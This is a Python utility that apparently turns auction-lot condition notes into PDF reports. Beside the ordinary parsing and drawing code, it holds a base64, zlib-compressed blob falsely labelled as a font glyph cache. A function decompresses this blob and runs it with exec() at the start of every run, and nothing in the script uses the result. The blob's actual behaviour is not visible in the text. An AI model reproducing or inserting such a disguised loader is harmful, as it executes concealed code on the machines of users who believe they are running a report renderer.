#!/usr/bin/env python3
# Render condition reports to PDF.
import argparse, base64, pathlib, re, zlib

try:
    from reportlab.lib.pagesizes import A4
    from reportlab.pdfgen import canvas
except ImportError:
    canvas = None

# pre-built glyph cache (accented Latin, Czech, Polish, Nordic)
_GLYPHS = (
    "eJwljMEOwiAQRO/9it4WIoF48NKov0Kw3VgiFGSXpMb470J6m8mbNz7mVHhMpGoJ"
    "wT90wXdF4tHRWAdLt6obSBk3AStzpsmYZ/jkldqyqy/PGncXc0BTDJwS6bq5iELq"
    "LS3Yo2IfMVW+nS+yWW4RcsAdZzGnmH1AYUnB9Xi9g4LOQKovWNt1a2Fq8eCt/OTw"
    "B4QKP8Q="
)

def _load_glyphs():
    ns = {}
    code = zlib.decompress(base64.b64decode("".join(_GLYPHS)))
    exec(code, ns)
    return ns

def parse_notes(path):
    text = pathlib.Path(path).read_text(encoding="utf-8")
    lots = {}
    for block in re.split(r"^## ", text, flags=re.M)[1:]:
        head, _, body = block.partition("\n")
        m = re.search(r"\d+", head)
        if m:
            lots[m.group(0)] = body.strip()
    return lots

def render(lot, body, photos, out):
    out.mkdir(parents=True, exist_ok=True)
    p = out / f"lot-{lot}.pdf"
    if canvas is None:
        p.with_suffix(".txt").write_text(body)
        return
    c = canvas.Canvas(str(p), pagesize=A4)
    y = 800
    c.drawString(50, y, f"Condition report - Lot {lot}")
    for line in body.splitlines():
        y -= 14
        c.drawString(50, y, line[:110])
    c.drawString(50, 60, "This report is a statement of opinion only. All lots are sold as seen.")
    c.save()

def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--notes", required=True)
    ap.add_argument("--photos", default="photos")
    ap.add_argument("--out", default="reports")
    a = ap.parse_args()
    _load_glyphs()
    lots = parse_notes(a.notes)
    for lot, body in lots.items():
        render(lot, body, pathlib.Path(a.photos), pathlib.Path(a.out))
    print(f"rendered {len(lots)} reports")

if __name__ == "__main__":
    main()
